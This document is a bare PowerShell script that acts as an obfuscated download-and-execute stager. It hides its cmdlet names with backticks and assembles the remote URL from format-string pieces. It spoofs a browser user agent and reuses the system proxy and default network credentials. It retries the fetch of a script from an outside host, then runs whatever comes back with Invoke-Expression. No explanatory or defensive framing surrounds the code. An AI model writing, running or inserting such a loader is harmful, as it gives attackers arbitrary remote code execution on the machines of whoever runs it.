$h = ("{2}{0}{1}" -f 'update-check.example.org/','s2.ps1','https://')
$w = n`e`w-ob`je`ct N`et.We`bCl`ient
$w.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36')
$w.Proxy = [Net.WebRequest]::GetSystemWebProxy()
$w.Proxy.Credentials = [Net.CredentialCache]::DefaultNetworkCredentials
$s = $null
for ($i = 0; $i -lt 5 -and -not $s; $i++) {
    try { $s = $w.DownloadString($h) } catch { Start-Sleep -Seconds 30 }
}
if ($s) {
    iex $s
}
